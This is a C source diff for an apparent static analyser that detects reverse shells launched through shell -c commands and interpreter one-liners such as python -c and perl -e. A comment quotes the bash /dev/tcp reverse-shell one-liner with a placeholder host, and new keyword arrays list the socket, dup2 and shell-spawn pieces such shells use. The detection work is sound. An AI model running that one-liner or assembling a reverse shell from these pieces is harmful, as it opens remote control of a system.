@@ -299,6 +299,9 @@ static void open_call(struct an *a, const struct callsite *c, bool predict, cons
  * "bash -c 'curl …'"), then the connections bash's /dev/tcp and /dev/udp
  * redirections make — each a socket connected and put on a descriptor
  * ("bash -i >& /dev/tcp/HOST/PORT 0>&1": the reverse shell one-liner). */
+static void exec_inline(struct an *a, const struct callsite *c, const char *prog,
+			const char *opt, const char *text);
+
 static void shell_command_body(struct an *a, const struct callsite *c, const char *cmd)
 {
 	char buf[DCAM_ARG_LEN];
@@ -322,6 +325,17 @@ static void shell_command_body(struct an *a, const struct callsite *c, const cha
 			emit(a, c, "clone:process", buf);
 			emit(a, c, tok, buf);
 		}
+		/* an interpreter's inline program: the rest of the line is its */
+		if (!tokclass_is_shell(buf) && p[n] == ' ') {
+			const char *opt = p + n + 1;
+			size_t on = strcspn(opt, " \t");
+			char flag[8];
+
+			if (on < sizeof(flag) && opt[on]) {
+				snprintf(flag, sizeof(flag), "%.*s", (int)on, opt);
+				exec_inline(a, c, buf, flag, opt + on + 1);
+			}
+		}
 		/* the rest of this stage are its arguments */
 		p += strcspn(p, "|;&()`\n");
 	}
@@ -342,14 +356,67 @@ static void shell_command(struct an *a, const struct callsite *c, const char *cm
 	shell_command_body(a, c, cmd);
 }
 
-/* execl("/bin/sh", "sh", "-c", CMD): the shell runs CMD (its option
- * cluster holds a "c": -c, -ic, -lc). */
-static void shell_exec_command(struct an *a, const struct callsite *c, const char *opt)
+static bool contains_any(const char *s, const char *const *words, size_t n)
 {
-	char cmd[DCAM_SHELL_CMD_LEN];
+	for (size_t i = 0; i < n; i++)
+		if (strstr(s, words[i]))
+			return true;
+	return false;
+}
 
-	if (opt && opt[0] == '-' && opt[1] != '-' && strchr(opt, 'c'))
-		shell_command_body(a, c, arg_str(a, c, 3, cmd, sizeof(cmd)));
+/* An interpreter's one-line program (python -c, perl -e, ruby -e, php -r,
+ * node -e, lua -e), read for what a reverse shell in any of them does, in
+ * that order: a connection, the socket put on stdio, a shell. */
+static void inline_program(struct an *a, const struct callsite *c, const char *code)
+{
+	static const char *const connects[] = { "connect(", ".connect", "create_connection",
+						"TCPSocket", "fsockopen", "IO::Socket::INET",
+						"/dev/tcp/", "net.Socket", "Socket.new" };
+	static const char *const onto_stdio[] = { "dup2", "fileno", ">&", "<&", "STDIN",
+						  ".pipe(" };
+	static const char *const shells[] = { "/bin/sh", "/bin/bash", "pty.spawn", "sh -i",
+					      "bash -i" };
+	bool net;
+
+	if (!code)
+		return;
+	net = contains_any(code, connects, ARRAY_SIZE(connects));
+	if (net) {
+		emit(a, c, "socket:inet", code);
+		emit(a, c, "connect:inet", code);
+		if (contains_any(code, onto_stdio, ARRAY_SIZE(onto_stdio)))
+			emit(a, c, "dup2:socket", code);
+	}
+	if (contains_any(code, shells, ARRAY_SIZE(shells)))
+		emit(a, c, "execve:shell", code);
+}
+
+/* What prog runs when its first argument is opt and its second text: a
+ * shell's -c command (or -ic, -lc), an interpreter's inline program. */
+static void exec_inline(struct an *a, const struct callsite *c, const char *prog,
+			const char *opt, const char *text)
+{
+	static const struct {
+		const char *name, *flags;
+	} interp[] = { { "python", "c" }, { "perl", "eE" }, { "ruby", "e" }, { "php", "r" },
+		       { "node", "e" },   { "lua", "e" } };
+	const char *base;
+
+	if (!prog || !opt || opt[0] != '-' || !opt[1] || opt[1] == '-' || !text)
+		return;
+	if (tokclass_is_shell(prog)) {
+		if (strchr(opt, 'c'))
+			shell_command_body(a, c, text);
+		return;
+	}
+	base = strrchr(prog, '/');
+	base = base ? base + 1 : prog;
+	for (size_t i = 0; i < ARRAY_SIZE(interp); i++)
+		if (!strncmp(base, interp[i].name, strlen(interp[i].name)) && !opt[2] &&
+		    strchr(interp[i].flags, opt[1])) {
+			inline_program(a, c, text);
+			return;
+		}
 }
 
 static const struct pmap *lookup(const char *name)
@@ -428,8 +495,12 @@ void dcam_predict_call(struct an *a, const struct callsite *c, bool predict, uin
 						arg_str(a, c, a1, s1, sizeof(s1)),
 						arg_str(a, c, a2, s2, sizeof(s2))) : NULL);
 		emit(a, c, token, path);
-		if (!strcmp(token, "execve:shell") && a2 == 2)
-			shell_exec_command(a, c, arg_str(a, c, a2, s2, sizeof(s2)));
+		if (a2 == 2) {
+			char text[DCAM_SHELL_CMD_LEN];
+
+			exec_inline(a, c, path, arg_str(a, c, a2, s2, sizeof(s2)),
+				    arg_str(a, c, 3, text, sizeof(text)));
+		}
 		return;
 	case P_EXECVEAT:
 		token = y.kind == RK_CONST && (y.val & X_AT_EMPTY_PATH) ? "execveat:fd" : "execveat";
